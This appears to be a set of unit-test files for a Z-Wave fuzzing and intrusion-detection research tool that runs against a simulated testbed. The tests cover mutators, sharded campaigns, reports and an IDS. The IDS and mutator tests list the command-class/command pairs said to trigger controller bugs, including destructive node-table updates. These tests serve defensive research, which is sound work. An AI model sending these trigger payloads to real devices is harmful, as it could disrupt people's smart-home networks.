TEST(ReportTest, CsvRowPerFinding) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD6_SamsungWv520;
  sim::Testbed testbed(testbed_config);
  const auto result = run_short_campaign(testbed);

  const std::string csv = render_findings_csv(result);
  std::size_t rows = 0;
  for (char c : csv) {
    if (c == '\n') ++rows;
  }
  EXPECT_EQ(rows, result.findings.size() + 1);  // header + one per finding
  EXPECT_EQ(csv.find("bug_id,cmd_class"), 0u);
}

TEST(ReportTest, TimelineCsvIsPlottable) {
  sim::TestbedConfig testbed_config;
  sim::Testbed testbed(testbed_config);
  const auto result = run_short_campaign(testbed);
  const std::string csv = render_timeline_csv(result);
  EXPECT_EQ(csv.find("time_s,packets"), 0u);
  EXPECT_GT(std::count(csv.begin(), csv.end(), '\n'), 5);
}

}  // namespace
}  // namespace zc::core
