// Fault-domain semantics of the supervised shard pool (core/parallel.h):
// a crashed or hung shard restarts with backoff and, past its budget, is
// quarantined — while every unaffected shard's results stay byte-identical
// to a failure-free run. Hangs are broken cooperatively by the deadline
// watchdog through a CancellationToken, never by killing threads.
//
// Faults are injected deterministically through
// ParallelConfig::shard_fault_hook, so every outcome asserted here is a
// pure function of the fault pattern. Labeled `robust` so `ctest -L
// robust` runs the crash/hang suite in isolation (TSan-clean by
// construction: tokens are atomic, watchdog slots are mutex-guarded).
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>

#include "core/parallel.h"
#include "store/journal.h"

namespace zc::core {
namespace {

CampaignConfig quick_config(SimTime duration = 5 * kMinute) {
  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = duration;
  config.seed = 0x2C07E12F;
  config.loop_queue = false;
  return config;
}

sim::TestbedConfig quick_testbed() {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  testbed_config.seed = 0x2C07E12F;
  return testbed_config;
}

/// Canonical text of one shard's campaign output — everything a fault or
/// restart could perturb, excluding the supervision bookkeeping itself.
std::string shard_fingerprint(const ShardResult& shard) {
  std::ostringstream out;
  out << "shard " << shard.shard_id << " seed=" << shard.campaign_seed
      << " packets=" << shard.result.test_packets << '\n';
  for (const auto& finding : shard.result.findings) {
    out << "  " << to_hex(finding.payload) << ' ' << detection_kind_name(finding.kind)
        << ' ' << finding.matched_bug_id << ' ' << finding.detected_at << '\n';
  }
  return out.str();
}

TEST(ShardRestartPolicyTest, BackoffIsBoundedExponential) {
  ShardRestartPolicy policy;
  policy.initial_backoff = std::chrono::milliseconds(10);
  policy.multiplier = 2.0;
  policy.max_backoff = std::chrono::milliseconds(35);
  EXPECT_EQ(policy.backoff_before(0).count(), 0);    // before the first attempt
  EXPECT_EQ(policy.backoff_before(1).count(), 10);   // before the first restart
  EXPECT_EQ(policy.backoff_before(2).count(), 20);
  EXPECT_EQ(policy.backoff_before(3).count(), 35);   // 40 clamped
  EXPECT_EQ(policy.backoff_before(10).count(), 35);  // stays clamped
}

TEST(CancellationTokenTest, CancelIsStickyUntilReset) {
  CancellationToken token;
  EXPECT_FALSE(token.cancelled());
  token.request_cancel();
  EXPECT_TRUE(token.cancelled());
  token.request_cancel();  // idempotent
  EXPECT_TRUE(token.cancelled());
  token.reset();
  EXPECT_FALSE(token.cancelled());
}

TEST(ShardSupervisionTest, CrashedShardRestartsAndReportMatchesFaultFree) {
  const auto testbed_config = quick_testbed();
  const auto config = quick_config();

  ParallelConfig clean;
  clean.jobs = 2;
  const ParallelTrialReport baseline = run_trials_parallel(testbed_config, config, 3, clean);

  // Shard 1's first attempt dies; the restart rebuilds its world from
  // scratch (no checkpoint exists), so the rerun is the run that should
  // have happened — the merged report must match the fault-free one.
  ParallelConfig faulty = clean;
  faulty.restart.max_restarts = 2;
  faulty.restart.initial_backoff = std::chrono::milliseconds(1);
  faulty.shard_fault_hook = [](std::size_t shard_id, std::size_t attempt,
                               const CancellationToken&) {
    if (shard_id == 1 && attempt == 0) throw std::runtime_error("injected crash");
  };
  const ParallelTrialReport report = run_trials_parallel(testbed_config, config, 3, faulty);

  ASSERT_EQ(report.shards.size(), 3u);
  EXPECT_EQ(report.shards[0].health, ShardHealth::kHealthy);
  EXPECT_EQ(report.shards[1].health, ShardHealth::kRecovered);
  EXPECT_EQ(report.shards[1].restarts, 1u);
  EXPECT_EQ(report.shards[1].last_error, "injected crash");
  EXPECT_EQ(report.shards[2].health, ShardHealth::kHealthy);
  EXPECT_EQ(report.shard_restarts, 1u);
  EXPECT_TRUE(report.degraded_shards.empty());

  EXPECT_EQ(report.summary.trials, baseline.summary.trials);
  EXPECT_EQ(report.summary.union_bug_ids, baseline.summary.union_bug_ids);
  EXPECT_EQ(report.summary.per_trial_unique, baseline.summary.per_trial_unique);
  EXPECT_EQ(report.summary.total_packets, baseline.summary.total_packets);
  for (std::size_t i = 0; i < 3; ++i) {
    EXPECT_EQ(shard_fingerprint(report.shards[i]), shard_fingerprint(baseline.shards[i]));
  }
}

TEST(ShardSupervisionTest, RepeatedCrashQuarantinesOnlyThatShard) {
  const auto testbed_config = quick_testbed();
  const auto config = quick_config();

  ParallelConfig clean;
  clean.jobs = 2;
  const ParallelTrialReport baseline = run_trials_parallel(testbed_config, config, 3, clean);

  std::atomic<std::size_t> attempts_seen{0};
  ParallelConfig faulty = clean;
  faulty.restart.max_restarts = 1;
  faulty.restart.initial_backoff = std::chrono::milliseconds(1);
  faulty.shard_fault_hook = [&attempts_seen](std::size_t shard_id, std::size_t,
                                             const CancellationToken&) {
    if (shard_id == 0) {
      attempts_seen.fetch_add(1, std::memory_order_relaxed);
      throw std::runtime_error("persistent fault");
    }
  };
  const ParallelTrialReport report = run_trials_parallel(testbed_config, config, 3, faulty);

  // Budget of 1 restart = exactly 2 attempts, then quarantine.
  EXPECT_EQ(attempts_seen.load(), 2u);
  ASSERT_EQ(report.shards.size(), 3u);
  EXPECT_EQ(report.shards[0].health, ShardHealth::kQuarantined);
  EXPECT_EQ(report.shards[0].last_error, "persistent fault");
  ASSERT_EQ(report.degraded_shards.size(), 1u);
  EXPECT_EQ(report.degraded_shards[0], 0u);

  // The survivors are untouched: same bytes as the fault-free run, and the
  // summary is exactly the fault-free merge of shards 1 and 2.
  EXPECT_EQ(shard_fingerprint(report.shards[1]), shard_fingerprint(baseline.shards[1]));
  EXPECT_EQ(shard_fingerprint(report.shards[2]), shard_fingerprint(baseline.shards[2]));
  EXPECT_EQ(report.summary.trials, 2u);
  EXPECT_EQ(report.summary.total_packets, baseline.shards[1].result.test_packets +
                                              baseline.shards[2].result.test_packets);
}

TEST(ShardSupervisionTest, HungShardIsCancelledByDeadlineAndRecovers) {
  const auto testbed_config = quick_testbed();
  const auto config = quick_config(2 * kMinute);

  ParallelConfig clean;
  clean.jobs = 2;
  const ParallelTrialReport baseline = run_trials_parallel(testbed_config, config, 2, clean);

  // Shard 0's first attempt blocks exactly until the watchdog trips its
  // token — a cooperative hang, the only kind the design breaks. The
  // restarted attempt runs clean and must deliver the shard's results.
  ParallelConfig faulty = clean;
  faulty.restart.max_restarts = 2;
  faulty.restart.initial_backoff = std::chrono::milliseconds(1);
  faulty.shard_deadline = std::chrono::milliseconds(250);
  faulty.shard_fault_hook = [](std::size_t shard_id, std::size_t attempt,
                               const CancellationToken& token) {
    if (shard_id == 0 && attempt == 0) {
      while (!token.cancelled()) std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }
  };
  const ParallelTrialReport report = run_trials_parallel(testbed_config, config, 2, faulty);

  ASSERT_EQ(report.shards.size(), 2u);
  EXPECT_EQ(report.shards[0].health, ShardHealth::kRecovered);
  EXPECT_GE(report.shards[0].restarts, 1u);
  EXPECT_EQ(report.shards[0].last_error, "deadline exceeded");
  EXPECT_EQ(report.shards[1].health, ShardHealth::kHealthy);
  EXPECT_TRUE(report.degraded_shards.empty());

  // The hung attempt aborted before fuzzing anything, so the resumed run
  // replays the whole campaign: identical findings, identical summary.
  EXPECT_EQ(report.summary.union_bug_ids, baseline.summary.union_bug_ids);
  EXPECT_EQ(report.shards[0].result.findings.size(),
            baseline.shards[0].result.findings.size());
  EXPECT_EQ(shard_fingerprint(report.shards[1]), shard_fingerprint(baseline.shards[1]));
}

TEST(ShardSupervisionTest, SupervisionEventsLandInShardTelemetry) {
  const auto testbed_config = quick_testbed();
  const auto config = quick_config();

  ParallelConfig faulty;
  faulty.jobs = 2;
  faulty.collect_telemetry = true;
  faulty.restart.max_restarts = 1;
  faulty.restart.initial_backoff = std::chrono::milliseconds(1);
  faulty.shard_fault_hook = [](std::size_t shard_id, std::size_t attempt,
                               const CancellationToken&) {
    if (shard_id == 2 && attempt == 0) throw std::runtime_error("one-shot crash");
    if (shard_id == 0) throw std::runtime_error("persistent crash");
  };
  const ParallelTrialReport report = run_trials_parallel(testbed_config, config, 3, faulty);

  const obs::MetricsRegistry merged = report.merged_metrics();
  // Shard 0: 2 failed attempts + quarantine; shard 2: 1 failure + restart.
  EXPECT_EQ(merged.value(obs::MetricId::kParallelShardFailures), 3u);
  EXPECT_EQ(merged.value(obs::MetricId::kParallelShardRestarts), 2u);
  EXPECT_EQ(merged.value(obs::MetricId::kParallelShardQuarantines), 1u);

  const std::string trace = report.merged_trace_jsonl();
  EXPECT_NE(trace.find("\"ev\":\"shard_failure\""), std::string::npos);
  EXPECT_NE(trace.find("\"ev\":\"shard_restart\""), std::string::npos);
  EXPECT_NE(trace.find("\"ev\":\"shard_quarantine\""), std::string::npos);
}

TEST(ShardSupervisionTest, JournalCollectsFindingsAcrossShards) {
  const auto testbed_config = quick_testbed();
  const auto config = quick_config();
  const std::string path = ::testing::TempDir() + "zc_parallel_journal.zcj";
  std::remove(path.c_str());

  store::FindingsJournal journal;
  ASSERT_TRUE(journal.open(path));

  ParallelConfig parallel;
  parallel.jobs = 2;
  parallel.journal = &journal;
  const ParallelTrialReport report = run_trials_parallel(testbed_config, config, 3, parallel);
  journal.close();

  // Same device + same campaign => heavy key overlap across shards; the
  // journal holds the union, deduplicated, durable.
  ASSERT_GT(report.summary.union_bug_ids.size(), 0u);
  store::FindingsJournal reopened;
  ASSERT_TRUE(reopened.open(path));
  EXPECT_GT(reopened.records().size(), 0u);
  std::size_t with_bug_id = 0;
  for (const auto& record : reopened.records()) {
    EXPECT_EQ(record.device, static_cast<std::uint8_t>(testbed_config.controller_model));
    if (record.bug_id > 0) ++with_bug_id;
  }
  EXPECT_GE(with_bug_id, report.summary.union_bug_ids.size());
  reopened.close();
  std::remove(path.c_str());
}

}  // namespace
}  // namespace zc::core
