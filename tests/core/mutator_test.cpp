#include "core/mutator.h"

#include <gtest/gtest.h>

#include <set>

namespace zc::core {
namespace {

TEST(MutatorTest, ClassFieldIsNeverMutated) {
  // Table I: CMDCL only takes rand_valid — i.e. stays the target class.
  Rng rng(1);
  PositionSensitiveMutator mutator(rng, 0x86);
  for (int i = 0; i < 2000; ++i) {
    EXPECT_EQ(mutator.next().cmd_class, 0x86);
  }
}

TEST(MutatorTest, StartsWithAlgorithmOneSeedPayload) {
  Rng rng(1);
  PositionSensitiveMutator mutator(rng, 0x70);
  const auto first = mutator.next();
  EXPECT_EQ(first.command, 0x00);
  EXPECT_EQ(first.params, (Bytes{0x00}));
}

TEST(MutatorTest, SystematicPhaseEnumeratesEverySpecCommand) {
  Rng rng(1);
  PositionSensitiveMutator mutator(rng, 0x59);  // AGI: 6 commands
  std::set<zwave::CommandId> seen;
  while (mutator.in_systematic_phase()) {
    seen.insert(mutator.next().command);
  }
  const auto* spec = zwave::SpecDatabase::instance().find(0x59);
  for (const auto& command : spec->commands) {
    EXPECT_TRUE(seen.contains(command.id)) << int(command.id);
  }
}

TEST(MutatorTest, SystematicSweepCoversOperationSelectors) {
  // The first-parameter walk must produce operations 0x00-0x04 of
  // NODE_TABLE_UPDATE — the five destructive modes of Table III.
  Rng rng(1);
  PositionSensitiveMutator mutator(rng, 0x01);
  std::set<std::uint8_t> ops;
  while (mutator.in_systematic_phase()) {
    const auto payload = mutator.next();
    if (payload.command == 0x0D && !payload.params.empty()) {
      ops.insert(payload.params[0]);
    }
  }
  for (std::uint8_t op = 0; op <= 4; ++op) EXPECT_TRUE(ops.contains(op)) << int(op);
}

TEST(MutatorTest, SystematicPhaseIncludesBoundaryVectors) {
  Rng rng(1);
  PositionSensitiveMutator mutator(rng, 0x73);  // POWERLEVEL
  bool saw_all_min = false, saw_all_max = false;
  while (mutator.in_systematic_phase()) {
    const auto payload = mutator.next();
    if (payload.command != 0x01) continue;  // SET: level enum 0..9, timeout 1..255
    if (payload.params == Bytes{0x00, 0x01}) saw_all_min = true;
    if (payload.params == Bytes{0x09, 0xFF}) saw_all_max = true;
  }
  EXPECT_TRUE(saw_all_min);
  EXPECT_TRUE(saw_all_max);
}

TEST(MutatorTest, RandomPhasePayloadsFitTheMac) {
  Rng rng(7);
  PositionSensitiveMutator mutator(rng, 0x9F);
  for (int i = 0; i < 5000; ++i) {
    const auto payload = mutator.next();
    EXPECT_LE(payload.encode().size(), zwave::kMaxApplicationPayload);
  }
}

TEST(MutatorTest, RandomPhaseMostlyUsesValidCommands) {
  Rng rng(11);
  PositionSensitiveMutator mutator(rng, 0x86);
  while (mutator.in_systematic_phase()) mutator.next();
  const auto* spec = zwave::SpecDatabase::instance().find(0x86);
  int valid = 0, total = 4000;
  for (int i = 0; i < total; ++i) {
    if (spec->find_command(mutator.next().command) != nullptr) ++valid;
  }
  // rand_valid + arith-near-valid + insert dominate the operator mix.
  EXPECT_GT(valid, total / 2);
  EXPECT_LT(valid, total);  // but rand_invalid/interesting do appear
}

TEST(MutatorTest, DeterministicForSameSeed) {
  Rng rng_a(99), rng_b(99);
  PositionSensitiveMutator a(rng_a, 0x34);
  PositionSensitiveMutator b(rng_b, 0x34);
  for (int i = 0; i < 500; ++i) {
    const auto pa = a.next();
    const auto pb = b.next();
    EXPECT_EQ(pa.command, pb.command);
    EXPECT_EQ(pa.params, pb.params);
  }
}

TEST(MutatorTest, UnknownClassStillGeneratesPayloads) {
  Rng rng(3);
  PositionSensitiveMutator mutator(rng, 0xF3);  // not in the spec DB
  const auto first = mutator.next();
  EXPECT_EQ(first.cmd_class, 0xF3);
  for (int i = 0; i < 100; ++i) {
    EXPECT_LE(mutator.next().params.size(), zwave::kMaxApplicationPayload);
  }
}

TEST(MutatorTest, GeneratedCountTracks) {
  Rng rng(5);
  PositionSensitiveMutator mutator(rng, 0x80);
  for (int i = 0; i < 10; ++i) mutator.next();
  EXPECT_EQ(mutator.generated(), 10u);
}

TEST(RandomMutatorTest, CoversWholeClassRange) {
  Rng rng(13);
  RandomMutator mutator(rng);
  std::set<zwave::CommandClassId> classes;
  for (int i = 0; i < 8000; ++i) classes.insert(mutator.next().cmd_class);
  EXPECT_GT(classes.size(), 250u);  // essentially all of 0x00-0xFF
}

TEST(MutationOpNames, Stable) {
  EXPECT_STREQ(mutation_op_name(MutationOp::kRandValid), "rand_valid");
  EXPECT_STREQ(mutation_op_name(MutationOp::kInsert), "insert");
}

}  // namespace
}  // namespace zc::core
