// Persistent work-stealing executor (core/executor.h) and its contract
// with the sharded engine: stealing moves *execution*, never results, so
// every merged artifact — reports, journal files, coverage — is
// byte-identical at any worker count, including under deliberately skewed
// (steal-heavy) workloads. Labeled `executor` so the CI tier1/asan lanes
// call it out and the TSan lane runs it with the other threaded suites.
#include "core/executor.h"

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <future>
#include <map>
#include <mutex>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "core/parallel.h"
#include "store/journal.h"

namespace zc::core {
namespace {

TEST(ExecutorTest, RunsEveryTaskExactlyOnce) {
  Executor executor(4);
  constexpr std::size_t kTasks = 100;
  std::vector<std::atomic<int>> runs(kTasks);
  Executor::Job job;
  job.task_count = kTasks;
  job.run = [&runs](std::size_t task, std::size_t) { ++runs[task]; };
  executor.submit(std::move(job)).wait();
  for (std::size_t i = 0; i < kTasks; ++i) EXPECT_EQ(runs[i].load(), 1) << i;
  EXPECT_EQ(executor.stats().tasks_run, kTasks);
  EXPECT_EQ(executor.stats().jobs_submitted, 1u);
}

TEST(ExecutorTest, EmptyJobCompletesInline) {
  Executor executor(2);
  bool completed = false;
  Executor::Job job;
  job.task_count = 0;
  job.on_complete = [&completed] { completed = true; };
  Executor::Handle handle = executor.submit(std::move(job));
  EXPECT_TRUE(completed);
  EXPECT_TRUE(handle.done());
  handle.wait();  // must not block
}

TEST(ExecutorTest, SingleWorkerRunsTasksInIndexOrder) {
  // max_workers = 1 is the --jobs 1 path: one participant owns every task
  // and pops from the front, so execution order is exactly 0..N-1. This is
  // the replay guarantee for sequential runs.
  Executor executor(4);
  std::vector<std::size_t> order;
  Executor::Job job;
  job.task_count = 16;
  job.max_workers = 1;
  job.run = [&order](std::size_t task, std::size_t) { order.push_back(task); };
  executor.submit(std::move(job)).wait();
  ASSERT_EQ(order.size(), 16u);
  for (std::size_t i = 0; i < order.size(); ++i) EXPECT_EQ(order[i], i);
}

TEST(ExecutorTest, IdleWorkerStealsFromLoadedOne) {
  // Deterministic steal handshake: two participants, tasks {0,1} dealt to
  // worker slot 0 and {2,3} to slot 1. Task 0 blocks its owner until task
  // 1 has run — the only way task 1 can run is for the other worker to
  // steal it from slot 0's deque after draining its own. The job can only
  // complete via a steal, so finishing proves the steal path works.
  Executor executor(2);
  std::promise<void> task1_ran;
  std::shared_future<void> task1_future = task1_ran.get_future().share();
  std::atomic<std::size_t> task1_worker{99};
  Executor::Job job;
  job.task_count = 4;
  job.max_workers = 2;
  job.run = [&](std::size_t task, std::size_t worker) {
    if (task == 0) {
      task1_future.wait();
    } else if (task == 1) {
      task1_worker.store(worker);
      task1_ran.set_value();
    }
  };
  executor.submit(std::move(job)).wait();
  EXPECT_GE(executor.stats().tasks_stolen, 1u);
  EXPECT_EQ(task1_worker.load(), 1u);  // stolen by the other participant
}

TEST(ExecutorTest, GlobalPoolIsPersistentAndNeverShrinks) {
  Executor& a = Executor::global(2);
  Executor& b = Executor::global(4);
  EXPECT_EQ(&a, &b);  // one process-wide pool
  EXPECT_GE(b.workers(), 4u);
  const std::size_t grown = b.workers();
  // A smaller request later must not tear down warm workers (their
  // thread_local shard contexts are the whole point of persistence).
  EXPECT_EQ(Executor::global(1).workers(), grown);
  EXPECT_GE(Executor::global(grown).workers(), grown);
}

TEST(ExecutorTest, ConcurrentJobsBothComplete) {
  Executor executor(3);
  std::atomic<int> a{0};
  std::atomic<int> b{0};
  Executor::Job first;
  first.task_count = 8;
  first.run = [&a](std::size_t, std::size_t) { ++a; };
  Executor::Job second;
  second.task_count = 8;
  second.run = [&b](std::size_t, std::size_t) { ++b; };
  Executor::Handle ha = executor.submit(std::move(first));
  Executor::Handle hb = executor.submit(std::move(second));
  ha.wait();
  hb.wait();
  EXPECT_EQ(a.load(), 8);
  EXPECT_EQ(b.load(), 8);
}

TEST(ExecutorTest, OnCompleteSeesAllTaskEffects) {
  // on_complete runs on the worker that retires the last task, after every
  // task's side effects are visible (acq_rel on the remaining counter).
  Executor executor(4);
  std::atomic<int> done_tasks{0};
  int observed = -1;
  Executor::Job job;
  job.task_count = 32;
  job.run = [&done_tasks](std::size_t, std::size_t) { ++done_tasks; };
  job.on_complete = [&] { observed = done_tasks.load(); };
  executor.submit(std::move(job)).wait();
  EXPECT_EQ(observed, 32);
}

// ---------------------------------------------------------------------
// Sharded-engine determinism on the executor, under steal-heavy skew.
// ---------------------------------------------------------------------

CampaignConfig quick_config(SimTime duration) {
  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = duration;
  config.seed = 0x2C07E12F;
  config.loop_queue = false;
  return config;
}

/// Skewed shard list: the first shard is ~8x the simulated duration of the
/// rest, so at jobs >= 4 the workers owning the short shards go idle early
/// and must steal to stay busy — the adversarial case for "stealing moves
/// execution, never results".
std::vector<ShardSpec> skewed_shards(std::size_t count) {
  std::vector<ShardSpec> shards;
  for (std::size_t i = 0; i < count; ++i) {
    ShardSpec spec;
    spec.shard_id = i;
    spec.testbed.controller_model = sim::DeviceModel::kD4_AeotecZw090;
    spec.testbed.seed = shard_testbed_seed(0x2C07E12F, i);
    spec.campaign = quick_config(i == 0 ? 8 * kMinute : 1 * kMinute);
    spec.campaign.seed = shard_campaign_seed(0x2C07E12F, i);
    shards.push_back(std::move(spec));
  }
  return shards;
}

std::string results_fingerprint(const std::vector<ShardResult>& results) {
  std::ostringstream out;
  for (const ShardResult& shard : results) {
    out << "shard " << shard.shard_id << " packets=" << shard.result.test_packets
        << " tx=" << shard.medium_transmissions << '\n';
    for (const auto& finding : shard.result.findings) {
      out << "  " << to_hex(finding.payload) << ' ' << finding.matched_bug_id << ' '
          << finding.detected_at << '\n';
    }
  }
  return out.str();
}

TEST(ExecutorDeterminismTest, SkewedShardsIdenticalAtAnyJobCount) {
  const std::vector<ShardSpec> shards = skewed_shards(8);
  std::map<std::size_t, std::string> prints;
  for (std::size_t jobs : {std::size_t{1}, std::size_t{4}, std::size_t{8}}) {
    ParallelConfig parallel;
    parallel.jobs = jobs;
    prints[jobs] = results_fingerprint(run_shards(shards, parallel));
  }
  EXPECT_FALSE(prints[1].empty());
  EXPECT_EQ(prints[1], prints[4]);
  EXPECT_EQ(prints[1], prints[8]);
}

TEST(ExecutorDeterminismTest, JournalFileByteIdenticalAtAnyJobCount) {
  // The whole journal pipeline — per-shard staging buffers, shard-order
  // batch commits — must leave the same bytes on disk at any --jobs.
  const std::vector<ShardSpec> shards = skewed_shards(6);
  auto journal_bytes = [&shards](std::size_t jobs) {
    const std::string path = ::testing::TempDir() + "executor_journal_" +
                             std::to_string(jobs) + ".zcj";
    std::remove(path.c_str());
    {
      store::FindingsJournal journal;
      EXPECT_TRUE(journal.open(path));
      ParallelConfig parallel;
      parallel.jobs = jobs;
      parallel.journal = &journal;
      run_shards(shards, parallel);
    }
    std::ifstream in(path, std::ios::binary);
    std::stringstream buffer;
    buffer << in.rdbuf();
    std::remove(path.c_str());
    return buffer.str();
  };
  const std::string at1 = journal_bytes(1);
  EXPECT_FALSE(at1.empty());
  EXPECT_EQ(journal_bytes(4), at1);
  EXPECT_EQ(journal_bytes(8), at1);
}

TEST(ExecutorDeterminismTest, AsyncSubmissionDeliversSortedResults) {
  // run_shards_async is the daemon-facing path: returns immediately, the
  // completion callback gets every result sorted by shard id, and wait()
  // does not return before the callback has.
  const std::vector<ShardSpec> shards = skewed_shards(5);
  std::vector<ShardResult> delivered;
  std::atomic<bool> fired{false};
  ParallelConfig parallel;
  parallel.jobs = 4;
  Executor::Handle handle = run_shards_async(
      shards, parallel, [&](std::vector<ShardResult> results) {
        delivered = std::move(results);
        fired.store(true);
      });
  handle.wait();
  ASSERT_TRUE(fired.load());
  ASSERT_EQ(delivered.size(), 5u);
  for (std::size_t i = 0; i < delivered.size(); ++i) {
    EXPECT_EQ(delivered[i].shard_id, i);
  }
  EXPECT_EQ(results_fingerprint(delivered),
            results_fingerprint(run_shards(shards, parallel)));
}

TEST(ExecutorDeterminismTest, SkewedShardsSurviveRestartsIdentically) {
  // Crash the heavy shard's first two attempts: the supervised retry must
  // land on the same bytes as a failure-free run, even with the staged
  // journal buffer carried across attempts.
  const std::vector<ShardSpec> shards = skewed_shards(4);
  ParallelConfig clean;
  clean.jobs = 4;
  const std::string expected = results_fingerprint(run_shards(shards, clean));

  ParallelConfig faulty;
  faulty.jobs = 4;
  faulty.restart.max_restarts = 3;
  faulty.restart.initial_backoff = std::chrono::milliseconds(1);
  faulty.shard_fault_hook = [](std::size_t shard_id, std::size_t attempt,
                               const CancellationToken&) {
    if (shard_id == 0 && attempt < 2) throw std::runtime_error("injected crash");
  };
  std::vector<ShardResult> results = run_shards(shards, faulty);
  EXPECT_EQ(results[0].health, ShardHealth::kRecovered);
  EXPECT_EQ(results[0].restarts, 2u);
  EXPECT_EQ(results_fingerprint(results), expected);
}

}  // namespace
}  // namespace zc::core
