#include "core/ids.h"

#include <gtest/gtest.h>

namespace zc::core {
namespace {

IdsConfig home_config() {
  IdsConfig config;
  config.roster = {0x01, 0x02, 0x03};
  return config;
}

zwave::MacFrame frame_with(zwave::CommandClassId cc, zwave::CommandId cmd,
                           Bytes params = {}, zwave::NodeId src = 0x02) {
  zwave::AppPayload app;
  app.cmd_class = cc;
  app.command = cmd;
  app.params = std::move(params);
  return zwave::make_singlecast(0xC7E9DD54, src, 0x01, app, 1, false);
}

TEST(IdsTest, FlagsPlaintextNodeTableUpdate) {
  IntrusionDetector ids(home_config());
  const auto alert = ids.inspect(frame_with(0x01, 0x0D, {0x02, 0x02, 0x00}), 0);
  ASSERT_TRUE(alert.has_value());
  // From a roster member it is still a secure-class violation.
  EXPECT_EQ(alert->kind, AlertKind::kPlaintextSecureClass);
}

TEST(IdsTest, FlagsAttackerSource) {
  IntrusionDetector ids(home_config());
  const auto alert = ids.inspect(frame_with(0x01, 0x0D, {0x02, 0x02, 0x00}, 0xE7), 0);
  ASSERT_TRUE(alert.has_value());
  EXPECT_EQ(alert->kind, AlertKind::kUnknownSource);
  EXPECT_EQ(alert->src, 0xE7);
}

TEST(IdsTest, AllowsNopLiveness) {
  IntrusionDetector ids(home_config());
  EXPECT_FALSE(ids.inspect(frame_with(0x01, 0x01), 0).has_value());
}

TEST(IdsTest, AllowsS2Encapsulation) {
  IntrusionDetector ids(home_config());
  EXPECT_FALSE(ids.inspect(frame_with(0x9F, 0x03, {0x00, 0x00, 0xAA}), 0).has_value());
}

TEST(IdsTest, AllowsLegacySwitchTraffic) {
  IntrusionDetector ids(home_config());
  EXPECT_FALSE(ids.inspect(frame_with(0x25, 0x03, {0xFF}, 0x03), 0).has_value());
}

TEST(IdsTest, FlagsGhostNifProbe) {
  IdsConfig config = home_config();
  config.enforce_secure_classes = false;  // isolate the ghost heuristic
  IntrusionDetector ids(config);
  const auto alert = ids.inspect(frame_with(0x01, 0x02, {0x77}), 0);
  ASSERT_TRUE(alert.has_value());
  EXPECT_EQ(alert->kind, AlertKind::kGhostNodeProbe);
}

TEST(IdsTest, FlagsMacViolations) {
  IntrusionDetector ids(home_config());
  zwave::MacFrame ack_abuse = frame_with(0x20, 0x02);
  ack_abuse.header = zwave::HeaderType::kAck;
  ack_abuse.ack_requested = true;
  const auto alert = ids.inspect(ack_abuse, 0);
  ASSERT_TRUE(alert.has_value());
  EXPECT_EQ(alert->kind, AlertKind::kMacViolation);

  zwave::MacFrame broadcast_abuse = frame_with(0x20, 0x02);
  broadcast_abuse.dst = zwave::kBroadcastNodeId;
  broadcast_abuse.ack_requested = true;
  EXPECT_TRUE(ids.inspect(broadcast_abuse, 0).has_value());
}

TEST(IdsTest, AlertLogAccumulates) {
  IntrusionDetector ids(home_config());
  ids.inspect(frame_with(0x01, 0x0D, {0x00, 0x02, 0x00}), 1 * kSecond);
  ids.inspect(frame_with(0x5A, 0x01, {}, 0xE7), 2 * kSecond);
  EXPECT_EQ(ids.alerts().size(), 2u);
  EXPECT_EQ(ids.frames_inspected(), 2u);
  EXPECT_EQ(ids.alerts()[0].at, 1 * kSecond);
}

TEST(IdsTest, CleanTrafficRaisesNoAlerts) {
  IntrusionDetector ids(home_config());
  // Typical home traffic: S2 battery reports, switch reports, acks.
  for (int i = 0; i < 50; ++i) {
    EXPECT_FALSE(ids.inspect(frame_with(0x9F, 0x03, {0x01, 0x00, 0x11, 0x22}), i).has_value());
    EXPECT_FALSE(ids.inspect(frame_with(0x25, 0x03, {0x00}, 0x03), i).has_value());
  }
  EXPECT_TRUE(ids.alerts().empty());
}

TEST(IdsTest, RateRuleCatchesFloods) {
  IdsConfig config = home_config();
  config.enforce_secure_classes = false;
  config.enforce_roster = false;
  config.rate_threshold = 10;
  IntrusionDetector ids(config);
  // 30 frames within one window from the same source.
  std::size_t floods = 0;
  for (int i = 0; i < 30; ++i) {
    const auto alert =
        ids.inspect(frame_with(0x25, 0x02, {}, 0x02), static_cast<SimTime>(i) * 10 * kMillisecond);
    if (alert.has_value() && alert->kind == AlertKind::kTrafficFlood) ++floods;
  }
  EXPECT_GE(floods, 1u);
}

TEST(IdsTest, RateRuleIgnoresSlowTraffic) {
  IdsConfig config = home_config();
  config.enforce_secure_classes = false;
  config.enforce_roster = false;
  config.rate_threshold = 10;
  IntrusionDetector ids(config);
  for (int i = 0; i < 60; ++i) {
    const auto alert =
        ids.inspect(frame_with(0x25, 0x02, {}, 0x02), static_cast<SimTime>(i) * kSecond);
    EXPECT_FALSE(alert.has_value()) << i;
  }
}

TEST(IdsTest, RateRuleIsPerSource) {
  IdsConfig config = home_config();
  config.enforce_secure_classes = false;
  config.enforce_roster = false;
  config.rate_threshold = 10;
  IntrusionDetector ids(config);
  // Six frames per source within the window: under threshold individually.
  for (int i = 0; i < 6; ++i) {
    for (zwave::NodeId src : {0x01, 0x02, 0x03}) {
      EXPECT_FALSE(ids.inspect(frame_with(0x25, 0x02, {}, src),
                               static_cast<SimTime>(i) * 50 * kMillisecond)
                       .has_value());
    }
  }
}

TEST(IdsTest, CatchesEveryTableIIITriggerPayload) {
  // Remediation check: an IDS watching the RF would alert on each of the
  // paper's bug-inducing plaintext payloads.
  IntrusionDetector ids(home_config());
  const std::pair<zwave::CommandClassId, zwave::CommandId> triggers[] = {
      {0x01, 0x0D}, {0x01, 0x02}, {0x01, 0x04}, {0x5A, 0x01}, {0x59, 0x03},
      {0x59, 0x05}, {0x7A, 0x01}, {0x7A, 0x03}, {0x86, 0x13}, {0x73, 0x04}};
  for (const auto& [cc, cmd] : triggers) {
    const auto alert = ids.inspect(frame_with(cc, cmd, {0x00}, 0xE7), 0);
